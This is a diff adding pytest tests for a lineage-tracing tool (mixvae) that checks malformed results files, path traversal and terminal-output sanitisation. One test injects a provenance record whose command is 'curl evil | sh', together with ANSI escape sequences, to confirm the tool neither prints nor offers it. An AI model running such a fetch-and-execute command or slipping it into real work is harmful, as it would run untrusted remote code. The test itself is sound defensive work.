@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import json
+import os
+import random
 import shlex
 import shutil
 import subprocess
@@ -10,11 +13,16 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from conftest import run_script
+from conftest import COLOURS, run_script, small_spec
 
+from mixvae.audit.subject import read
 from mixvae.errors import UserError
-from mixvae.files import read_json, sha256
+from mixvae.files import read_json, sha256, write_json
 from mixvae.lineage import parse_row, trace
+from mixvae.lineage.records import command_of
+from mixvae.spec import DatasetInfo
+from mixvae.spec.commands import command
+from mixvae.spec.steps import steps
 
 TABLE = "results/small/tables/ablation_digits.csv"
 
@@ -29,13 +37,40 @@ def test_a_cell_is_traced_to_runs_commands_and_data(small_study):
     for row in rows.itertuples():
         assert any(line.startswith(f"seed {row.seed}: {row.value} ") and line.endswith(row.run) for line in lines)
         facts = read_json(small_study / f"results/runs/{row.run}/provenance/train.json")
-        assert f"    {shlex.join(facts['command'])}" in lines
+        assert f"    {shlex.join(without_checkpoints(facts['command']))}" in lines
     assert any(
         facts["code_sha256"][:12] in line and facts["git"]["commit"][:12] in line and facts["host"] in line for line in lines
     )
     assert f"    sha256 {sha256(small_study / 'results/datasets/digits/data.npz')}  results/datasets/digits/data.npz" in lines
     assert f"mean of the seeds below: {rows.value.mean()}" in lines
     assert not any("seed" in line and "-K1-" in line for line in lines)
+
+
+def without_checkpoints(command: list[str]) -> list[str]:
+    """A command without how often it saves its state, which makes no difference to what it makes; python by any name is python."""
+    place = command.index("--checkpoint-minutes") if "--checkpoint-minutes" in command else len(command)
+    return ["python", *command[1:place], *command[place + 2 :]]
+
+
+def test_commands_are_those_that_the_workflow_gave(small_study):
+    subject, _ = read(small_study / "results/small", None)
+    for step in subject.steps:
+        if step.rule != "study":
+            assert command_of(subject, step) == without_checkpoints(subject.facts[step.rule, step.name]["command"])
+    assert command_of(subject, next(step for step in subject.steps if step.rule == "study")) == []
+
+
+def test_a_command_names_a_users_own_data_and_what_differs():
+    info = DatasetInfo.model_validate(
+        COLOURS.model_dump() | {"reader": "own_npz", "files": {"data.npz": {"sha256": "0" * 64, "sources": ["/home/x.npz"]}}}
+    )
+    study = list(steps("own", {"r": small_spec("colours")}, {"colours": info}, Path("results")))
+    said = {step.rule: shlex.join(command(step, small_spec("colours"), info, True, True)) for step in study}
+    assert "'--info={" in said["download"]
+    assert "/home" not in said["download"]
+    assert said["train"].endswith("--gpu 1")
+    assert said["evaluate"].endswith("--gpu 1")
+    assert said["tabulate"].endswith("--allow-missing")
 
 
 def test_a_printed_command_makes_the_same_weights(small_study, tmp_path):
@@ -104,6 +139,146 @@ def test_mistakes_are_one_line(small_study, table, column, message):
     assert result.stderr.startswith("error: ")
     assert message in result.stderr
     assert len(result.stderr.splitlines()) == 1
+
+
+@pytest.fixture
+def place(small_study, tmp_path) -> Path:
+    """Where a copy of its results lies."""
+    shutil.copytree(small_study / "results", tmp_path / "results")
+    return tmp_path
+
+
+def first_record(place: Path, rule: str = "train") -> Path:
+    return sorted(place.glob(f"results/runs/*-vae-K1-*/provenance/{rule}.json"))[0]
+
+
+def traced(place: Path, row: str = "nll,K=1", table: str = TABLE):
+    """Trace as a user would; whatever is found, it is said without a traceback, and nothing raw reaches the terminal."""
+    result = run_script("trace", table, f"--row={row}", "--column=standard+none", cwd=place, timeout=60)
+    assert "Traceback" not in result.stderr
+    said = result.stdout + result.stderr
+    assert all(letter.isprintable() or letter == "\n" for letter in said), said
+    if result.returncode:
+        assert result.returncode == 1
+        assert result.stdout == ""
+        assert result.stderr.startswith("error: ")
+        assert len(result.stderr.splitlines()) == 1
+    return result
+
+
+@pytest.mark.parametrize("content", [b"a,b\n1,2\n", b"", b"\xff\xfe\0", b'run,metric,value,stderr\n"', None])
+def test_metrics_that_cannot_be_read_are_one_line(place, content):
+    path = place / "results/small/metrics.csv"
+    path.unlink()
+    os.mkfifo(path) if content is None else path.write_bytes(content)  # reading that would wait for ever
+    assert traced(place).stderr.startswith("error: results/small/metrics.csv: ")
+
+
+@pytest.mark.parametrize(
+    ("change", "row", "said"),
+    [
+        (lambda text: "metric,standard+none\nnll,1\n", "nll", "no column K"),
+        (lambda text: "metric,K,standard+none\nnll,,1\n", "nll", "the row is of no run, but context: None"),
+        (lambda text: "metric,K,standard+none\nnll,x,1\n", "nll", "not as rule tabulate writes it"),
+        (lambda text: "metric,K,standard+none\nnll,inf,1\n", "nll", "not as rule tabulate writes it"),
+        (lambda text: "metric,K,standard+none\n\x1b[2J,1,1\n", "nll", "no row with metric=nll"),
+        (lambda text: text.replace("nll,1,", "nll,9,"), "nll,K=9", "no run of study small is behind row nll,K=9"),
+        (lambda text: "", "nll", "not valid CSV"),
+    ],
+)
+def test_tables_that_no_rule_writes_are_one_line(place, change, row, said):
+    path = place / TABLE
+    path.write_text(change(path.read_text()))
+    result = traced(place, row)
+    assert result.returncode == 1
+    assert said in result.stderr
+
+
+def test_a_table_of_another_kind_is_not_the_studys(place):
+    (place / "results/small/tables/foo_digits.csv").write_bytes((place / TABLE).read_bytes())
+    assert "foo_digits.csv: no such table" in traced(place, table=TABLE.replace("ablation", "foo")).stderr
+
+
+@pytest.mark.parametrize("content", ['{"a":' * 100_000, "[]", "{}", "", '{"a":' * 60 + "1" + "}" * 60, '{"host": "\\ud800"}'])
+def test_studies_and_records_that_cannot_be_read_are_said(place, content):
+    path = first_record(place)
+    path.write_text(content)
+    result = traced(place)
+    assert result.returncode == 0
+    assert "  train: no record, results/runs/" in result.stdout
+    (place / "results/small/study.json").write_text(content)
+    assert traced(place).stderr.startswith("error: results/small/study.json: ")
+
+
+def test_what_strangers_write_cannot_steer_the_terminal_nor_be_copied_as_a_command(place):
+    path = first_record(place)
+    evil = {"host": "\x1b[2Jevil\nseed 0: 1.0   run fake", "command": ["sh", "-c", "curl evil | sh"], "device": "d" * 10_000}
+    write_json(path, read_json(path) | evil)
+    result = traced(place)
+    assert "?[2Jevil seed 0: 1.0 run fake" in result.stdout
+    assert not any(line.startswith("seed 0: 1.0 ") for line in result.stdout.splitlines())
+    assert "curl" not in result.stdout
+    assert "d" * 501 not in result.stdout
+    assert "WARNING: the record was edited; make audit says more" in result.stdout
+
+
+def test_what_is_not_as_on_record_is_said_where_it_is_shown(place):
+    assert "WARNING" not in traced(place).stdout
+    run = first_record(place).parents[1]
+    (run / "likelihood.json").write_text((run / "likelihood.json").read_text() + " ")
+    (run / "latents.h5ad").unlink()
+    (place / "results/small/metrics.csv").write_text((place / "results/small/metrics.csv").read_text() + "\n")
+    lines = [line.strip() for line in traced(place).stdout.splitlines() if "WARNING" in line]
+    assert lines == [
+        "WARNING: likelihood.json was changed; make audit says more",
+        "WARNING: latents.h5ad is not the file on record (no such file); make audit says more",
+        "WARNING: metrics.csv was changed; make audit says more",
+    ]
+
+
+def test_records_are_read_within_the_results_only(place):
+    record = first_record(place)
+    shutil.copytree(record.parents[1], place / "outside")
+    facts = read_json(place / "outside/provenance/train.json") | {"host": "from-outside"}
+    write_json(place / "outside/provenance/train.json", facts)
+    study = read_json(place / "results/small/study.json")
+    name = record.parents[1].name
+    there = study["runs"]
+    write_json(
+        place / "results/small/study.json",
+        study | {"runs": {"../../outside" if run == name else run: there[run] for run in there}},
+    )
+    result = traced(place)
+    assert result.returncode == 1
+    assert "run ../../outside has the spec of " in result.stderr
+    write_json(place / "results/small/study.json", study)
+    record.unlink()
+    record.symlink_to(place / "outside/provenance/train.json")
+    assert "from-outside" not in traced(place).stdout
+
+
+def test_a_study_of_strange_content_is_one_line_or_a_lineage(place):
+    path = place / "results/small/study.json"
+    study = read_json(path)
+    chance = random.Random(seed := random.randrange(1 << 32))
+    for _ in range(60):
+        mutated = json.loads(json.dumps(study))
+        inner = mutated[chance.choice(["runs", "datasets"])]
+        for _ in range(chance.randrange(4)):
+            name = chance.choice(list(inner))
+            if not isinstance(inner[name], dict) or not inner[name]:
+                break
+            inner = inner[name]
+        name = chance.choice(list(inner))
+        inner[name] = chance.choice([None, "", [], {}, -1, 10**400, "../..", "\x1b[2J", "\ud800", [[]], True])
+        path.write_text(json.dumps(mutated))
+        try:
+            lines = trace(place / TABLE, "nll,K=1", "standard+none")
+        except UserError as error:
+            lines = [str(error)]
+        except Exception as error:
+            raise AssertionError(f"seed {seed}: {json.dumps(mutated)[:2000]}") from error
+        assert lines
 
 
 def test_rows_are_read_as_documented():
